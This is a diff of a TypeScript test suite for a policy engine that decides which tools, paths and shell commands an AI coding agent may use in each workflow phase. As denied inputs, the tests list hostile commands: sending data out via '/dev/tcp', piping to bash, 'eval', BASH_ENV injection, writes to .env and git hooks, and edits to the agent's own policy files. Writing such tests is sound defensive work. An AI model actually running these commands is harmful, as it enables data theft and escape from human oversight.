@@ -9,7 +9,9 @@ const { ask, code, line } = here;
 
 describe("a tool", () => {
   it("needs a task that has entered a phase of the contract", async () => {
-    expect((await ask(undefined, "read_files", { path: "a" }, { task: undefined })).code).toBe("phase_task_missing");
+    expect((await ask(undefined, "read_files", { path: "a" }, { task: undefined })).code).toBe(
+      "phase_task_missing",
+    );
     expect((await ask(undefined, "read_files", { path: "a" })).code).toBe("phase_not_entered");
     for (const phase of ["plan", "PLAN ", "NOWHERE", "__proto__", "constructor"]) {
       expect(await code(phase, "read_files", { path: "a" }), phase).toBe("phase_unknown");
@@ -19,17 +21,28 @@ describe("a tool", () => {
   it("is forbidden first, then allowed, and denied by default (WF-106)", async () => {
     expect(await code("PLAN", "read_files", { path: "src/a.ts" })).toBe("rule_allowed");
     for (const tool of ["write_files", "edit_files", "git_commit", "run_tests", "bash"]) {
-      expect(await code("PLAN", tool, { path: "a", command: "ls" }), tool).toBe("phase_tool_forbidden");
+      expect(await code("PLAN", tool, { path: "a", command: "ls" }), tool).toBe(
+        "phase_tool_forbidden",
+      );
     }
-    for (const tool of ["deploy", "Bash", "write_file", "read_files ", "READ_FILES", "__proto__", "toString"]) {
+    for (const tool of [
+      "deploy",
+      "Bash",
+      "write_file",
+      "read_files ",
+      "READ_FILES",
+      "__proto__",
+      "toString",
+    ]) {
       expect(await code("PLAN", tool, {}), tool).toBe("phase_tool_not_allowed");
     }
   });
 
   it("is told with the phase, what may be used instead, and where the contract has it", async () => {
     const decision = await ask("PLAN", "bash", { command: "ls" });
-    expect(decision.reason).toContain("`PLAN`");
-    expect(decision.fix).toContain("`read_files`");
+    expect(decision.reason).toBe(
+      "The phase `PLAN` forbids `bash` and allows `read_files`, `search_codebase`, `grep`, `glob`, `ask_user_question` and 1 more; `bash` is allowed from `TDD` on",
+    );
     const file = join(here.folder, "agent_workflow.yaml");
     const lines = readFileSync(file, "utf8").split("\n");
     expect(decision.rule).toEqual({
@@ -49,9 +62,20 @@ describe("a tool", () => {
   });
 
   it("of a server is not the host's tool of that name", async () => {
-    expect(await code("PLAN", "read_files", { path: "a" }, { server: "evil" })).toBe("phase_tool_not_allowed");
-    expect(await code("PLAN", "bash", { command: "ls" }, { server: "evil" })).toBe("phase_tool_forbidden");
-    expect(await code("PLAN", "get_issue", { id: 1 }, { server: "tracker", servers: { tracker: ["get_issue"] } })).toBe("rule_allowed");
+    expect(await code("PLAN", "read_files", { path: "a" }, { server: "evil" })).toBe(
+      "phase_tool_not_allowed",
+    );
+    expect(await code("PLAN", "bash", { command: "ls" }, { server: "evil" })).toBe(
+      "phase_tool_forbidden",
+    );
+    expect(
+      await code(
+        "PLAN",
+        "get_issue",
+        { id: 1 },
+        { server: "tracker", servers: { tracker: ["get_issue"] } },
+      ),
+    ).toBe("rule_allowed");
   });
 });
 
@@ -59,11 +83,15 @@ describe("paths", () => {
   it("have to be among those that the phase allows, and none that it forbids", async () => {
     for (const tool of ["write_files", "edit_files"]) {
       expect(await code("TDD", tool, { path: "tests/a.ts" })).toBe("rule_allowed");
-      expect(await code("TDD", tool, { path: join(here.folder, "tests/deep/a.ts") })).toBe("rule_allowed");
+      expect(await code("TDD", tool, { path: join(here.folder, "tests/deep/a.ts") })).toBe(
+        "rule_allowed",
+      );
       expect(await code("TDD", tool, { path: "src/a.ts" })).toBe("phase_path_forbidden");
       expect(await code("TDD", tool, { path: "src/a.test.ts" })).toBe("phase_path_forbidden");
       expect(await code("TDD", tool, { path: "package.json" })).toBe("phase_path_not_allowed");
-      expect(await code("TDD", tool, { paths: ["tests/a.ts", "package.json"] })).toBe("phase_path_not_allowed");
+      expect(await code("TDD", tool, { paths: ["tests/a.ts", "package.json"] })).toBe(
+        "phase_path_not_allowed",
+      );
     }
   });
 
@@ -79,11 +107,14 @@ describe("paths", () => {
       "tests/$X.ts",
     ];
     for (const path of dresses) {
-      for (const phase of ["TDD", "IMPL"]) expect((await ask(phase, "write_files", { path })).effect, path).toBe("deny");
+      for (const phase of ["TDD", "IMPL"])
+        expect((await ask(phase, "write_files", { path })).effect, path).toBe("deny");
       expect((await ask("PLAN", "read_files", { path })).effect, path).toBe("deny");
     }
     expect(await code("TDD", "write_files", { path: "src/../tests/a.ts" })).toBe("rule_allowed");
-    expect(await code("TDD", "write_files", { path: "tests/../src/a.ts" })).toBe("phase_path_forbidden");
+    expect(await code("TDD", "write_files", { path: "tests/../src/a.ts" })).toBe(
+      "phase_path_forbidden",
+    );
   });
 
   it("lead where links lead (WF-143)", async () => {
@@ -91,7 +122,9 @@ describe("paths", () => {
     symlinkSync("/etc", join(here.folder, "tests/etc"));
     symlinkSync("nowhere", join(here.folder, "tests/dangling.ts"));
     symlinkSync("../agent_workflow.yaml", join(here.folder, "src/innocent.ts"));
-    expect(await code("TDD", "write_files", { path: "tests/linked/a.ts" })).toBe("phase_path_forbidden");
+    expect(await code("TDD", "write_files", { path: "tests/linked/a.ts" })).toBe(
+      "phase_path_forbidden",
+    );
     expect((await ask("TDD", "write_files", { path: "tests/etc/a.ts" })).effect).toBe("deny");
     expect((await ask("TDD", "write_files", { path: "tests/dangling.ts" })).effect).toBe("deny");
     expect((await ask("TDD", "write_files", { path: "tests/linked/../a.ts" })).effect).toBe("deny");
@@ -103,7 +136,14 @@ describe("paths", () => {
   });
 
   it("that a phase forbids by name are forbidden in every folder", async () => {
-    for (const path of [".env", ".env.local", "src/.env", ".ENV", ".git/config", ".git/hooks/pre-commit"]) {
+    for (const path of [
+      ".env",
+      ".env.local",
+      "src/.env",
+      ".ENV",
+      ".git/config",
+      ".git/hooks/pre-commit",
+    ]) {
       expect(await code("IMPL", "write_files", { path }), path).toBe("phase_path_forbidden");
     }
     expect(await code("IMPL", "write_files", { path: "src/env.ts" })).toBe("rule_allowed");
@@ -111,14 +151,23 @@ describe("paths", () => {
 });
 
 describe("what Bylaw is set up by", () => {
-  it.each([".bylaw/policy.toml", "bylaw.config.mjs", "bylaw.serve.json", "Bylaw.Serve.JSON"])("%s is written by no tool", async (path) => {
-    for (const tool of ["write_files", "edit_files"]) {
-      const { effect, votes } = await ask("IMPL", tool, { path });
-      expect([effect, votes.some((vote) => vote.code === "phase_protected")], tool).toEqual(["deny", true]);
-    }
-    const { effect, votes } = await ask("IMPL", "bash", { command: `echo x > ${path}` });
-    expect([effect, votes.some((vote) => vote.code === "phase_protected")]).toEqual(["deny", true]);
-  });
+  it.each([".bylaw/policy.toml", "bylaw.config.mjs", "bylaw.serve.json", "Bylaw.Serve.JSON"])(
+    "%s is written by no tool",
+    async (path) => {
+      for (const tool of ["write_files", "edit_files"]) {
+        const { effect, votes } = await ask("IMPL", tool, { path });
+        expect([effect, votes.some((vote) => vote.code === "phase_protected")], tool).toEqual([
+          "deny",
+          true,
+        ]);
+      }
+      const { effect, votes } = await ask("IMPL", "bash", { command: `echo x > ${path}` });
+      expect([effect, votes.some((vote) => vote.code === "phase_protected")]).toEqual([
+        "deny",
+        true,
+      ]);
+    },
+  );
 });
 
 describe("the contract itself", () => {
@@ -128,10 +177,18 @@ describe("the contract itself", () => {
     for (const phase of ["PLAN", "TDD", "IMPL", "REVIEW", "COMPLETE"]) {
       for (const tool of ["write_files", "edit_files", "delete_file"]) {
         const { effect, votes } = await ask(phase, tool, { path: file });
-        expect([effect, votes.some((vote) => vote.code === "phase_protected")], `${phase} ${tool}`).toEqual(["deny", true]);
+        expect(
+          [effect, votes.some((vote) => vote.code === "phase_protected")],
+          `${phase} ${tool}`,
+        ).toEqual(["deny", true]);
       }
     }
-    for (const path of [`./${file}`, `src/../${file}`, join(here.folder, file), "Agent_Workflow.YAML"]) {
+    for (const path of [
+      `./${file}`,
+      `src/../${file}`,
+      join(here.folder, file),
+      "Agent_Workflow.YAML",
+    ]) {
       expect(await code("IMPL", "write_files", { path }), path).toBe("phase_protected");
     }
     const dresses = [
@@ -155,7 +212,8 @@ describe("the contract itself", () => {
       `truncate -s 0 ./${file}`,
       `bash -c 'echo x > ${file}'`,
     ];
-    for (const command of dresses) expect((await ask("IMPL", "bash", { command })).effect, command).toBe("deny");
+    for (const command of dresses)
+      expect((await ask("IMPL", "bash", { command })).effect, command).toBe("deny");
     expect(await code("IMPL", "deploy", { path: file })).toBe("phase_protected");
     expect(await code("PLAN", "read_files", { path: file })).toBe("rule_allowed");
     expect(await line("IMPL", `cat ${file}`)).toBe("rule_allowed");
@@ -164,7 +222,13 @@ describe("the contract itself", () => {
 
 describe("lines", () => {
   it("of a phase with commands are these commands and no other", async () => {
-    for (const command of ["npm test", "pytest -q tests/test_a.py", "npm test && npm run test", "pytest 2>&1", "CI=1 npm test"]) {
+    for (const command of [
+      "npm test",
+      "pytest -q tests/test_a.py",
+      "npm test && npm run test",
+      "pytest 2>&1",
+      "CI=1 npm test",
+    ]) {
       expect(await line("TDD", command), command).toBe("rule_allowed");
     }
     for (const command of [
@@ -179,10 +243,23 @@ describe("lines", () => {
     ]) {
       expect(await line("TDD", command), command).toBe("phase_command_forbidden");
     }
-    for (const command of ["ls", "npm run tests", "npm testing", "echo hi", "npm test; ls", "pytest | tee x", "npm install"]) {
+    for (const command of [
+      "ls",
+      "npm run tests",
+      "npm testing",
+      "echo hi",
+      "npm test; ls",
+      "pytest | tee x",
+      "npm install",
+    ]) {
       expect(await line("TDD", command), command).toBe("phase_command_not_allowed");
     }
-    for (const command of ["npm test > src/a.ts", "pytest > /etc/x", "npm test >> agent_workflow.yaml", "npm test 2> package.json"]) {
+    for (const command of [
+      "npm test > src/a.ts",
+      "pytest > /etc/x",
+      "npm test >> agent_workflow.yaml",
+      "npm test 2> package.json",
+    ]) {
       expect((await ask("TDD", "bash", { command })).effect, command).toBe("deny");
     }
   });
@@ -205,7 +282,12 @@ describe("lines", () => {
     ]) {
       expect(await line("IMPL", command), command).toBe("rule_allowed");
     }
-    for (const command of ["echo x > .env", "tee .git/config", "cp a .git/hooks/pre-commit", "sed -i s/a/b/ src/.env.local"]) {
+    for (const command of [
+      "echo x > .env",
+      "tee .git/config",
+      "cp a .git/hooks/pre-commit",
+      "sed -i s/a/b/ src/.env.local",
+    ]) {
       expect(await line("IMPL", command), command).toBe("phase_path_forbidden");
     }
     expect(await line("IMPL", "yq -i .mode agent_workflow.yaml")).toBe("phase_protected");
@@ -321,10 +403,21 @@ describe("lines", () => {
       "apply_patch x",
       "cat a > /dev/tcp/host/1",
     ];
-    for (const command of dresses) expect((await ask("REVIEW", "bash", { command })).effect, command).toBe("deny");
+    for (const command of dresses)
+      expect((await ask("REVIEW", "bash", { command })).effect, command).toBe("deny");
     expect(await line("REVIEW", "cat <<'E' > a\nx\nE")).toBe("phase_shell_writes");
     expect(await line("REVIEW", "cat x | bash")).toBe("unknown_command");
-    for (const command of ["make", "npm test", "npm install", "tsc", "cargo build", "gh pr merge 1", "/tmp/ls", "./ls", "LS"]) {
+    for (const command of [
+      "make",
+      "npm test",
+      "npm install",
+      "tsc",
+      "cargo build",
+      "gh pr merge 1",
+      "/tmp/ls",
+      "./ls",
+      "LS",
+    ]) {
       expect(await line("REVIEW", command), command).toBe("phase_shell_writes");
     }
   });
@@ -333,23 +426,35 @@ describe("lines", () => {
     expect(await line("COMPLETE", "git add . && git commit -m done")).toBe("rule_allowed");
     expect(await code("COMPLETE", "git_commit", { message: "done" })).toBe("rule_allowed");
     expect(await line("COMPLETE", "git push")).toBe("phase_command_not_allowed");
-    expect((await ask("COMPLETE", "bash", { command: "git commit -m x > src/a" })).effect).toBe("deny");
+    expect((await ask("COMPLETE", "bash", { command: "git commit -m x > src/a" })).effect).toBe(
+      "deny",
+    );
   });
 
   it("of other tools that take one are read too", async () => {
     expect(await code("IMPL", "run_tests", {})).toBe("rule_allowed");
     expect(await code("IMPL", "run_tests", { command: "npm test" })).toBe("rule_allowed");
-    expect(await code("IMPL", "run_tests", { command: "echo x > /etc/x" })).toBe("phase_path_not_allowed");
+    expect(await code("IMPL", "run_tests", { command: "echo x > /etc/x" })).toBe(
+      "phase_path_not_allowed",
+    );
     expect(await code("IMPL", "bash", {})).toBe("unknown_command");
     expect(await code("IMPL", "bash", { command: ["ls"] })).toBe("unknown_command");
-    expect((await ask("IMPL", "bash", { command: "ls", env: { BASH_ENV: "x" } })).effect).toBe("deny");
+    expect((await ask("IMPL", "bash", { command: "ls", env: { BASH_ENV: "x" } })).effect).toBe(
+      "deny",
+    );
     expect((await ask("IMPL", "bash", { command: "echo x > a", cwd: "/etc" })).effect).toBe("deny");
     expect((await ask("REVIEW", "bash", { command: "x".repeat(20_000) })).effect).toBe("deny");
   });
 
   it("are refused with all that is wrong", async () => {
-    const { votes } = await ask("IMPL", "bash", { command: "echo x > /etc/x; git commit -m x; echo x > .env; eval $X" });
+    const { votes } = await ask("IMPL", "bash", {
+      command: "echo x > /etc/x; git commit -m x; echo x > .env; eval $X",
+    });
     const codes = new Set(votes.map((vote) => vote.code));
-    expect([...codes].sort()).toEqual(["phase_path_forbidden", "phase_vcs_not_allowed", "unknown_command"]);
+    expect([...codes].sort()).toEqual([
+      "phase_path_forbidden",
+      "phase_vcs_not_allowed",
+      "unknown_command",
+    ]);
   });
 });
